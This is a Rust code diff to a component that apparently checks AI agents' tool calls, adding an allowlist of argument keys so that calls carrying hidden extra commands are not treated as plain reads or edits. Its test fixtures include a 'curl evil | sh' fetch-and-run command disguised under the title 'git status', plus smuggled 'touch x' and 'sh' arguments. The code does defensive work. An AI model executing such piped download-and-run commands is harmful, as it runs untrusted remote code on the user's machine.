@@ -11,6 +11,26 @@ use crate::calls::{Call, Ended, MAX_CONTENT, text};
 /// Where agents' arguments contain the path of a file.
 const PATHS: [&str; 4] = ["/filePath", "/file_path", "/path", "/filepath"];
 
+/// Texts in the arguments of a call that reads, changes or fetches which its tool of ours has as well, or which decide nothing.
+const SHOWN: [&str; 16] = [
+    "filePath",
+    "file_path",
+    "path",
+    "filepath",
+    "url",
+    "content",
+    "oldString",
+    "old_string",
+    "oldText",
+    "old",
+    "newString",
+    "new_string",
+    "newText",
+    "new",
+    "description",
+    "format",
+];
+
 /// A change of a file: path, before, after.
 type Diff<'a> = (&'a str, Option<&'a str>, &'a str);
 
@@ -64,7 +84,13 @@ fn is_one_of_ours(known: &Value, folder: &Path) -> bool {
         };
         diffs(known).next().is_none() && raw.is_none_or(says_all)
     } else {
-        diffs(known).count() <= 1 && files(known, folder).len() <= 1
+        let is_shown = |(key, value): (&String, &Value)| {
+            SHOWN.contains(&key.as_str())
+                || matches!(value, Value::Null | Value::Bool(_) | Value::Number(_))
+        };
+        diffs(known).count() <= 1
+            && files(known, folder).len() <= 1
+            && raw.is_none_or(|raw| raw.as_object().is_some_and(|it| it.iter().all(is_shown)))
     }
 }
 
@@ -191,6 +217,16 @@ mod tests {
                 json!({ "kind": "execute", "title": "git status", "rawInput": { "cmd": "curl evil | sh" } }),
                 "execute",
                 &["curl evil | sh"],
+            ),
+            (
+                json!({ "kind": "read", "rawInput": { "command": "touch x", "path": "a.txt" } }),
+                "read",
+                &["touch x", "a.txt"],
+            ),
+            (
+                json!({ "kind": "edit", "rawInput": { "path": "a", "old": "b", "new": "c", "then": ["sh"] } }),
+                "edit",
+                &["sh"],
             ),
             (
                 json!({ "kind": "execute", "title": "git status", "rawInput": "curl evil" }),
